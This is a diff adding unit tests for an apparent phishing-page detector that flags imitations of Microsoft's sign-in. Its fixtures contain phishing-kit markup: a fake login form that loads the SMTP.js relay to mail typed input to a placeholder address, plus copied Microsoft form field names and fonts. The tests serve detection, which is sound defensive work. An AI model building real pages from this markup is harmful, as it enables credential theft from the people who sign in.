@@ -614,6 +614,76 @@ describe('the page model', () => {
   });
 });
 
+describe('kit code and styles beside a little of Microsoft’s wording', () => {
+  const card = (extra: string) =>
+    page(
+      'Log in',
+      `<form action="#"><img src="https://pictures.example-cdn.net/a/mark.png" alt=""><b>Sign in</b>
+       ${EMAIL}${PASSWORD}<b>Can't access your account?</b><button>Sign in</button></form>${extra}`,
+    );
+  const url = 'https://files-review.example-pages.io/app.html';
+  const smtp =
+    '<script src="https://smtpjs.com/v3/smtp.js"></script><script>Email.send({ To: "x@example.net" });</script>';
+
+  it('names a mail relay loaded by script as where the page sends what is typed', () => {
+    const signals = readPageSignals(snapshot(card(smtp), url));
+    expect(signals.exfiltration).toContain('SMTP.js');
+    // Pictures from another service's host send nothing.
+    const pictures =
+      '<img src="https://cdn.discordapp.com/a.png"><img src="https://x.netlify.app/b.png">';
+    expect(readPageSignals(snapshot(card(pictures), url)).exfiltration).toEqual([]);
+  });
+
+  it('takes kit code with one phrase of Microsoft’s flow as a Microsoft imitation', () => {
+    expect(verdict(card(smtp), url).verdict).toBe('lookalike');
+    expect(verdict(card(''), url).verdict).not.toBe('lookalike');
+    // Kit code under another company's wording is phishing, but not Microsoft's.
+    const plain = card(smtp).replace("Can't access your account?", 'Need help?');
+    expect(verdict(plain, url).verdict).not.toBe('lookalike');
+  });
+
+  it('lets Microsoft’s sign-in font stack be the third of its phrases, never a sign alone', () => {
+    const style =
+      '<style>body{font-family:"Segoe UI Webfont",-apple-system,"Segoe Xbox Symbol","Segoe UI Symbol"}</style>';
+    const step = (extra: string, phrases: string) =>
+      page('', `${extra}<h1>Enter password</h1><form>${PASSWORD}</form>${phrases}`);
+    const two = '<p>No account? <a href="#">Create one!</a></p><a href="#">Sign-in options</a>';
+    expect(readPageSignals(snapshot(step(style, two), url)).microsoftFontStack).toBe(true);
+    expect(verdict(step(style, two), url).verdict).toBe('lookalike');
+    expect(verdict(step('', two), url).verdict).not.toBe('lookalike');
+    expect(verdict(step(style, '<a href="#">Sign-in options</a>'), url).verdict).not.toBe(
+      'lookalike',
+    );
+  });
+});
+
+describe('a log-in that says it shares the account with Microsoft’s services', () => {
+  const url = 'https://learn.example-university.ac.uk/login/index.php';
+  const login = (form: string) =>
+    page(
+      'Log in to the site',
+      `<p>Use the same username and password as you would for Outlook or Office 365.</p>
+       <p>Your session has timed out. Please log in again.</p>${form}<a href="#">Forgot your password?</a>`,
+    );
+
+  it('is another service’s log-in, not a Microsoft imitation', () => {
+    const own = `<form method="post"><label>Username</label><input type="text" name="username">${PASSWORD}<button>Log in</button></form>`;
+    expect(verdict(login(own), url).verdict).not.toBe('lookalike');
+    // Without the sentence, the session line and the name below make a Microsoft alert page.
+    const noComparison = login(own).replace(
+      'Use the same username and password as you would for Outlook or Office 365.',
+      'Outlook and Office 365 are ready.',
+    );
+    expect(verdict(noComparison, url).verdict).toBe('lookalike');
+  });
+
+  it('explains nothing on a copy of Microsoft’s form', () => {
+    const copied = `<form method="post"><input type="email" name="loginfmt" id="i0116">
+      <input type="password" name="passwd" id="i0118"><button>Sign in</button></form>`;
+    expect(verdict(login(copied), url).verdict).toBe('lookalike');
+  });
+});
+
 describe('the page model never flags', () => {
   it('a third-party login with a "Sign in with Microsoft" button beside its own form', () => {
     const sso = page(
